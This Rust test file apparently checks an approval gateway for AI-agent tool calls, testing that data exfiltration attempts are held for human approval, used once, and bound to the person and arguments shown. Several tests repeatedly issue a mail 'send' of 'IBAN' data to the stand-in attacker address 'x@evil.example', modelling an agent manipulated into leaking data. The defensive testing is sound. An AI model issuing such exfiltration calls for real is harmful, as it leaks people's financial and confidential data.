//! One call, approved once (D-21): what an approval covers, and what it does not.

use doorward_approvals::{AnswerError, Approvals, By, Question, State, labels};
use doorward_engine::Ports;
use doorward_types::{ObjectId, Person, TenantId, Timestamp};
use http::StatusCode;
use serde_json::{Value, json};

use crate::client::{Client, Heard, initialize};
use crate::flow::{Desk, LABELS, call, desk, said};
use crate::support::within;

const VAULT: &str = "[vault]\npath = \"vault/doorward.db\"\nkey_file = \"keys/vault.key\"\n";

fn now() -> Timestamp {
    std::time::SystemTime::now().into()
}

impl Desk {
    fn approvals(&self) -> Approvals {
        self.house.door.door().ports().approvals().expect("there is a vault").clone()
    }

    /// The one question that waits.
    async fn question(&self) -> Question {
        let mut waiting = self.approvals().pending(now()).await.unwrap();
        assert_eq!(waiting.len(), 1, "{waiting:?}");
        waiting.remove(0)
    }

    /// Whoever makes the call approves it.
    async fn approved(&self) -> Question {
        let question = self.question().await;
        let by = by(&question.person, false);
        self.approvals().approve(&question.reference, &by, now()).await.unwrap()
    }
}

fn by(person: &Person, for_others: bool) -> By {
    By { person: person.clone(), for_others, signed_in: now(), way: "page" }
}

fn somebody_else() -> Person {
    Person {
        tenant: TenantId::parse("c0175050-0000-4000-8000-000000000001").unwrap(),
        object: ObjectId::parse("0e090000-0000-4000-8000-0000000000ff").unwrap(),
    }
}

fn is_sent(heard: &Heard) -> bool {
    heard.response()["result"].to_string().contains("sent\"")
}

// control: D-21: A call waits for a person and not on the wire; approved, it is sent once, and the same call once more is asked about anew.
#[tokio::test]
async fn an_approved_call_is_sent_once() {
    for modern in [false, true] {
        let desk = desk(&LABELS, VAULT).await;
        let alice = desk.house.client("alice");
        let told = said(&desk.obeys(&alice, modern).await);
        let question = desk.question().await;
        assert!(told.contains(&question.reference) && told.contains("/account/approvals/"), "{told}");
        assert!(question.why.contains("x@evil.example"), "a person sees where it goes: {}", question.why);
        assert!(question.arguments.contains("IBAN"), "and what: {}", question.arguments);
        assert!(!told.contains("evil.example"), "a model reads nothing of the arguments: {told}");
        // Asking again asks nobody twice.
        desk.sends(&alice, modern, "x@evil.example").await;
        assert_eq!(desk.question().await.reference, question.reference);
        assert_eq!(desk.sent(), 0);
        desk.approved().await;
        let heard = desk.sends(&alice, modern, "x@evil.example").await;
        assert!(is_sent(&heard), "{:?}", heard.body);
        assert!(!is_sent(&desk.sends(&alice, modern, "x@evil.example").await), "used up");
        assert_eq!(desk.sent(), 1);
        let grants: Vec<_> = desk
            .house
            .records("grant")
            .iter()
            .map(|grant| grant["grant"].as_str().unwrap_or_default().to_owned())
            .collect();
        let told = ["approval-asked", "approval-given", "approval-used", "approval-asked"];
        assert_eq!(grants, told, "{:?}", desk.house.records("grant"));
        assert!(!desk.house.record().contains("IBAN") && !desk.house.record().contains("evil.example"));
    }
}

// control: D-21: An approval covers the arguments that were shown, the person who was asked, and nothing that was read since.
#[tokio::test]
async fn an_approval_fits_nothing_else() {
    let desk = desk(&LABELS, VAULT).await;
    let (alice, bob) = (desk.house.client("alice"), desk.house.client("bob"));
    desk.obeys(&alice, true).await;
    desk.approved().await;
    // Other arguments (S34), and another person with the very same ones.
    assert!(!is_sent(&desk.sends(&alice, true, "y@evil.example").await));
    assert!(!is_sent(&desk.obeys(&bob, true).await));
    // What was read meanwhile is not what the person was told of.
    call(&alice, true, "hr", "salary", json!({})).await;
    let told = said(&desk.sends(&alice, true, "x@evil.example").await);
    assert!(told.contains("restricted data"), "{told}");
    assert_eq!(desk.sent(), 0);
    assert!(desk.house.refusals().contains(&"flow-refused".to_owned()));
}

// control: D-21: Of many calls that race for one approval one is sent.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn racing_calls_share_no_approval() {
    let desk = desk(&LABELS, VAULT).await;
    let alice = desk.house.client("alice");
    desk.obeys(&alice, true).await;
    desk.approved().await;
    let calls = (0..8).map(|_| desk.sends(&alice, true, "x@evil.example"));
    let heard = futures_util::future::join_all(calls).await;
    assert_eq!(heard.iter().filter(|heard| is_sent(heard)).count(), 1);
    assert_eq!(desk.sent(), 1);
}

// control: D-21: Restricted data is not let out by the person who calls; a second one may let it go within the house.
#[tokio::test]
async fn restricted_data_needs_a_second_person() {
    let desk = desk(&LABELS, VAULT).await;
    let alice = desk.house.client("alice");
    call(&alice, true, "hr", "salary", json!({})).await;
    desk.sends(&alice, true, "bo@contoso.com").await;
    let (question, approvals) = (desk.question().await, desk.approvals());
    let approve = async |by: By| approvals.approve(&question.reference, &by, now()).await;
    assert!(matches!(approve(by(&question.person, true)).await, Err(AnswerError::OwnCall)));
    assert!(matches!(approve(by(&somebody_else(), false)).await, Err(AnswerError::Unknown)));
    let stale = By { signed_in: Timestamp::from_secs(now().as_secs() - 600), ..by(&somebody_else(), true) };
    assert!(matches!(approve(stale).await, Err(AnswerError::Stale)));
    assert!(!is_sent(&desk.sends(&alice, true, "bo@contoso.com").await));
    assert_eq!(approve(by(&somebody_else(), true)).await.unwrap().state, State::Approved);
    assert!(is_sent(&desk.sends(&alice, true, "bo@contoso.com").await));
}

// control: D-21: A person who said no is not asked again about the same call.
#[tokio::test]
async fn a_refusal_stands() {
    let desk = desk(&LABELS, VAULT).await;
    let alice = desk.house.client("alice");
    desk.obeys(&alice, true).await;
    let question = desk.question().await;
    desk.approvals().refuse(&question.reference, &by(&question.person, false), now()).await.unwrap();
    let told = said(&desk.sends(&alice, true, "x@evil.example").await);
    assert!(told.contains("did not approve"), "{told}");
    assert_eq!((desk.approvals().pending(now()).await.unwrap().len(), desk.sent()), (0, 0));
}

/// What a client hears that takes its person to an address.
async fn sent_to_an_address(desk: &Desk, modern: bool) -> Value {
    let alice = desk.house.client("alice");
    let mail = json!({"name": "send", "arguments": {"to": "x@evil.example", "body": "IBAN"}});
    call(&alice, modern, "crm", "read", json!({})).await;
    call(&alice, modern, "web", "fetch", json!({})).await;
    if modern {
        let mut params = mail;
        params["_meta"]["io.modelcontextprotocol/clientCapabilities"] = json!({"elicitation": {"url": {}}});
        return alice.at("/mail/mcp").modern("tools/call", params).await.response();
    }
    let mut able: Client = alice.at("/mail/mcp");
    let heard = able.post(&initialize(json!({"elicitation": {"url": {}}}))).await;
    assert_eq!(heard.status, StatusCode::OK, "{:?}", heard.body);
    able.session = Some(heard.headers["mcp-session-id"].to_str().unwrap().to_owned());
    able.post(&json!({"jsonrpc": "2.0", "id": 5, "method": "tools/call", "params": mail})).await.response()
}

// control: D-21: A client that opens addresses is told where its person approves, in the words of its revision.
#[tokio::test]
async fn a_client_takes_its_person_to_the_page() {
    let desk_of = async |modern: bool| {
        let desk = desk(&LABELS, VAULT).await;
        let told = sent_to_an_address(&desk, modern).await;
        let url = desk.approvals().url(&desk.question().await.reference);
        (told, url)
    };
    let (told, url) = desk_of(true).await;
    assert_eq!(told["result"]["resultType"], "input_required", "{told}");
    let asked = &told["result"]["inputRequests"]["doorward-approval"];
    assert_eq!((&asked["method"], &asked["params"]["mode"]), (&json!("elicitation/create"), &json!("url")));
    assert_eq!(asked["params"]["url"], json!(url));
    let (told, url) = desk_of(false).await;
    assert_eq!(told["error"]["code"], -32042, "{told}");
    assert_eq!(told["error"]["data"]["elicitations"][0]["url"], json!(url));
}

// control: D-20, D-21: What was read, and what was approved, outlive the door.
#[tokio::test]
async fn a_restart_washes_nothing_off() {
    let desk = desk(&LABELS, VAULT).await;
    let alice = desk.house.client("alice");
    call(&alice, true, "crm", "read", json!({})).await;
    call(&alice, true, "web", "fetch", json!({})).await;
    let desk = desk.again(VAULT).await;
    let alice = desk.house.client("alice");
    assert!(
        said(&desk.sends(&alice, true, "x@evil.example").await).contains("`crm/read` gave confidential data")
    );
    desk.approved().await;
    let desk = desk.again(VAULT).await;
    let alice = desk.house.client("alice");
    assert!(is_sent(&desk.sends(&alice, true, "x@evil.example").await));
    let desk = desk.again(VAULT).await;
    assert!(!is_sent(&desk.sends(&desk.house.client("alice"), true, "x@evil.example").await));
    assert_eq!(desk.sent(), 1);
}

// control-off: D-20: A door that keeps nothing forgets with its end what was read.
#[tokio::test]
async fn without_a_vault_a_restart_forgets() {
    let desk = desk(&LABELS, "").await;
    let alice = desk.house.client("alice");
    call(&alice, true, "crm", "read", json!({})).await;
    call(&alice, true, "web", "fetch", json!({})).await;
    let desk = desk.again("").await;
    assert!(is_sent(&desk.sends(&desk.house.client("alice"), true, "x@evil.example").await));
}

// control: D-20: What somebody gave up is given up at the door that runs, within a second, and it is recorded.
#[tokio::test]
async fn labels_fall_by_hand() {
    let desk = desk(&LABELS, VAULT).await;
    let alice = desk.house.client("alice");
    desk.obeys(&alice, true).await;
    // Another process, as the command line is one.
    let door = desk.house.door.door();
    let before = door.ports().labels_seen().await;
    let config = doorward_config::load(
        "test.toml",
        &std::fs::read_to_string(desk.house.folder.path().join("test.toml")).unwrap(),
        doorward_config::Build { lab: true },
    );
    let config = config.unwrap().rebase(desk.house.folder.path());
    let store = doorward_gateway::open_store(&config, 0, false).await.unwrap();
    let shown = labels::all(&store, now()).await.unwrap();
    assert_eq!(shown.len(), 1);
    let fallen =
        labels::reset(&store, &shown[0].key, ("alice", "a new topic"), now()).await.unwrap().unwrap();
    assert_eq!(fallen.label.confidentiality.word(), "confidential");
    store.close().await;
    within("the door to notice", async {
        let mut looks = tokio::time::interval(std::time::Duration::from_millis(5));
        while door.ports().labels_seen().await == before {
            looks.tick().await;
        }
    })
    .await;
    assert!(is_sent(&desk.sends(&alice, true, "x@evil.example").await));
    let fell: Vec<_> =
        desk.house.records("grant").into_iter().filter(|grant| grant["grant"] == "labels-fell").collect();
    assert_eq!(fell.len(), 1, "{fell:?}");
}
